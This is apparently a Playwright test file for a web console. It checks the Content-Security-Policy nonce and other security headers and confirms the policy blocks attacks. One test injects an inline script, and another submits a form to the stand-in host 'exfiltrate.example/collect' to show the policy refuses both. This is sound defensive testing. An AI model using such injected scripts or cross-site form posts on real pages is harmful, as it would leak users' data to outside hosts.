// Security headers on real page loads: the Content-Security-Policy's nonce is on every inline
// script, the console hydrates and calls its server functions under the policy, assets keep their
// caching — and what the policy is for: an injected script does not run, a form cannot be sent to
// another site, and the suite-wide guard (helpers.ts) notices both.
import { expect, open, signUp, test, uniqueEmail } from './helpers';

test.beforeEach(({ page }) => {
  page.on('pageerror', (err) => { throw err; });
});

function nonceOf(csp: string | undefined): string {
  const match = /script-src 'self' 'nonce-([A-Za-z0-9+/_-]{22,}=*)' 'wasm-unsafe-eval'/.exec(csp ?? '');
  expect(match, `a script-src with a nonce in ${csp}`).not.toBeNull();
  return match![1];
}

test('a console page carries the headers, its inline scripts the nonce, and it hydrates', async ({ page }) => {
  const response = await page.goto('/signin');
  const headers = await response!.allHeaders();
  const csp = headers['content-security-policy'];
  for (const directive of ["default-src 'self'", "style-src 'self'", "img-src 'self' data:", "connect-src 'self'",
    "form-action 'self' https:", "base-uri 'none'", "object-src 'none'", "frame-ancestors 'none'"]) {
    expect(csp).toContain(directive);
  }
  expect(csp).not.toContain('unsafe-inline');
  expect(headers['x-frame-options']).toBe('DENY');
  expect(headers['x-content-type-options']).toBe('nosniff');
  expect(headers['referrer-policy']).toBe('same-origin');
  expect(headers['cache-control']).toBe('no-store');
  expect(headers['strict-transport-security'], 'the suite runs without Secure cookies').toBeUndefined();
  await expect(page.locator('body')).toHaveAttribute('data-hydrated', 'true');

  const nonce = nonceOf(csp);
  // The `nonce` attribute is hidden from the DOM once a policy applies; the property keeps it.
  const nonces = await page.locator('script:not([src])').evaluateAll((scripts) =>
    scripts.map((s) => (s as HTMLScriptElement).nonce));
  expect(nonces.length).toBeGreaterThan(0);
  expect(new Set(nonces)).toEqual(new Set([nonce]));

  const again = await page.reload();
  expect(nonceOf((await again!.allHeaders())['content-security-policy'])).not.toBe(nonce);
  await expect(page.locator('body')).toHaveAttribute('data-hydrated', 'true');

  const asset = await page.request.get('/pkg/scimpad.js');
  expect(asset.status()).toBe(200);
  expect(asset.headers()['cache-control'] ?? '').not.toContain('no-store');
  expect(asset.headers()['content-security-policy']).toBeUndefined();
});

test('the signed-in console works under the policy; server functions are not stored', async ({ page }) => {
  await signUp(page, uniqueEmail());
  await open(page, '/settings/api-keys');
  await page.getByLabel('Name').fill('Entra');
  const created = page.waitForResponse((r) => r.url().endsWith('/api/create_api_key'));
  await page.getByRole('button', { name: 'Create key' }).click();
  const response = await created;
  expect(response.status()).toBe(200);
  expect((await response.allHeaders())['cache-control']).toBe('no-store');
  await expect(page.getByTestId('secret')).toHaveValue(/^scimpad_/);
});

test('an injected script does not run, a form cannot leave for another site, and the guard sees both', async ({ page, browser, cspViolations }) => {
  await open(page, '/signin');
  const ran = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.__injected = true;';
    document.body.append(script);
    await new Promise((resolve) => setTimeout(resolve, 50));
    return (window as unknown as { __injected?: boolean }).__injected === true;
  });
  expect(ran).toBe(false);
  await expect.poll(() => cspViolations.length).toBe(1);
  expect(cspViolations[0]).toContain('script-src');

  // In a context the test opens itself, which the guard watches too.
  const other = await (await browser.newContext()).newPage();
  await open(other, '/signin');
  await other.evaluate(() => {
    const form = document.createElement('form');
    form.method = 'POST';
    form.action = 'http://exfiltrate.example/collect';
    document.body.append(form);
    form.submit();
  });
  await expect.poll(() => cspViolations.length).toBe(2);
  expect(cspViolations[1]).toContain('form-action refused http://exfiltrate.example/collect');
  await other.context().close();
  // Provoked on purpose: every other test must end with none.
  cspViolations.length = 0;
});
